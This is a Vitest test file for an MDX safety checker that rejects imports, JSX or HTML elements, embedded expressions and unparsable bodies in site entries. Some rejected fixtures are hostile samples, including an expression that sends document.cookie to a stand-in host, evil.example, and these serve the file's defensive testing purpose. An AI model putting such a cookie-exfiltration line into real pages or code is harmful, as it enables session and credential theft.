import { describe, expect, it } from 'vitest';
import { findUnsafeMdx } from '../../src/lib/mdx-safety';

describe('findUnsafeMdx', () => {
  it.each([
    ['an empty body', ''],
    [
      'paragraphs, emphasis, lists and links',
      'A **strong** note with `code`.\n\n- one\n- two\n\n[project](https://example.org)\n',
    ],
    ['a GFM table and strikethrough, as the site renders them', '| model | score |\n| --- | --- |\n| a | ~~1~~ 2 |\n'],
    ['an escaped brace and a less-than sign followed by a space', 'Sets \\{a, b\\}; 3 < 4.\n'],
    ['an escaped tag-like text', 'The \\<image> token.\n'],
    ['code blocks holding JSX and imports', '```tsx\nimport x from "y";\n<Foo bar={1} />\n```\n'],
    ['inline code holding an expression', 'Write `{x}` to interpolate.\n'],
  ])('accepts %s', (_, body) => {
    expect(findUnsafeMdx(body)).toEqual([]);
  });

  it.each([
    ['an import', 'Intro.\n\nimport Chart from "./chart.js"\n', 3, 'import/export statements are not allowed in an entry'],
    ['an export', 'export const score = 1\n', 1, 'import/export statements are not allowed in an entry'],
    [
      'a JSX block element',
      'Intro.\n\n<Chart data="x" />\n',
      3,
      'JSX/HTML element <Chart> is not allowed in an entry (use Markdown; write \\< for a literal <)',
    ],
    [
      'an inline HTML element',
      'Intro.\n\nA <b>bold</b> claim.\n',
      3,
      'JSX/HTML element <b> is not allowed in an entry (use Markdown; write \\< for a literal <)',
    ],
    [
      'a fragment',
      '<>hidden</>\n',
      1,
      'JSX/HTML element <> is not allowed in an entry (use Markdown; write \\< for a literal <)',
    ],
    [
      'a block expression',
      '\n{fetch("https://evil.example")}\n',
      2,
      'expression {fetch("https://evil.example")} is not allowed in an entry (write \\{ for a literal brace)',
    ],
    [
      'an inline expression',
      'Score: {1 + 1}.\n',
      1,
      'expression {1 + 1} is not allowed in an entry (write \\{ for a literal brace)',
    ],
    [
      'a long multi-line expression, shown on one line and shortened',
      'Intro.\n\n{\n  await fetch("https://evil.example/collect?data=" + document.cookie)\n}\n',
      3,
      'expression {await fetch("https://evil.example/colle…} is not allowed in an entry (write \\{ for a literal brace)',
    ],
  ])('rejects %s, at its line', (_, body, line, message) => {
    expect(findUnsafeMdx(body)).toEqual([{ line, message }]);
  });

  it('reports every unsafe node, and each element once (not the expressions inside it)', () => {
    const body = 'import a from "a"\n\nText {x}.\n\n<Box>\n  {y}\n</Box>\n';
    expect(findUnsafeMdx(body).map((issue) => issue.line)).toEqual([1, 3, 5]);
  });

  it.each([
    ['an HTML comment', 'Intro.\n\nA <!-- hidden --> comment.\n', 3, /^the MDX does not parse: Unexpected character `!`/],
    ['an unclosed brace', 'Fine.\n\nSets {a, b\n', 3, /^the MDX does not parse: Unexpected end of file in expression/],
    [
      'an autolink',
      'See <https://example.org>.\n',
      1,
      /^the MDX does not parse: .*to create a link in MDX, use `\[text\]\(url\)`/,
    ],
    ['an unclosed element', 'Intro.\n\n<div>\n\ntext\n', 3, /^the MDX does not parse: Expected a closing tag for `<div>`$/],
  ])('rejects a body that does not parse (%s), at the line of the error', (_, body, line, message) => {
    const issues = findUnsafeMdx(body);
    expect(issues).toHaveLength(1);
    expect(issues[0]).toMatchObject({ line, message: expect.stringMatching(message) });
  });
});
